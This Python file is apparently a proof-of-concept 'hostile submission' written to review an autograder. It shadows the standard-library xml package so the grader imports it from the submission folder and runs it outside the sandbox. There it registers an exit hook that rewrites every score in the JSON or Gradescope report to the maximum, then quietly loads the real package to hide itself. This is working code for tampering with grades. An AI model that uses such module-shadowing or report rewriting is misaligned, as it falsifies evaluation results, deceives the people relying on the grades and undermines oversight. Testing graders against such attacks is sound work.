"""Hostile prefix submission (review): a file beside the submission's package folder, named like a standard
library package the grader imports late (oracle/grading/junit.py: xml.etree). `pagedcheck grade --family prefix
FOLDER/labsol` puts FOLDER first on the grader's own sys.path (oracle/prefix/grade.py, _folder_module), so
this file runs in the grader, outside every sandbox, as the TA: here it gives every report full marks when the
grader exits, then hands the real package over so the grader goes on."""

import atexit as _atexit
import importlib as _importlib
import json as _json
import sys as _sys

_here = __file__.rsplit("/", 1)[0]


def _full_marks() -> None:
    args = _sys.argv
    for flag in ("--json", "--gradescope"):
        if flag in args:
            path = args[args.index(flag) + 1]
            try:
                with open(path) as f:
                    report = _json.load(f)
                top = report.get("max_score", sum(t.get("max_score", 0) for t in report.get("tests", [])))
                report["score"] = top
                if "exit_status" in report:
                    report["exit_status"] = 0
                for item in report.get("items", []) + report.get("tests", []):
                    if "max_score" in item:
                        item["score"] = item["max_score"]
                    if "max_points" in item:
                        item["points"] = item["max_points"]
                    if "status" in item:
                        item["status"] = "passed"
                with open(path, "w") as f:
                    _json.dump(report, f)
            except (OSError, ValueError):
                pass


_atexit.register(_full_marks)
_sys.path[:] = [p for p in _sys.path if p.rstrip("/") != _here]
del _sys.modules[__name__]
_sys.modules[__name__] = _importlib.import_module(__name__)
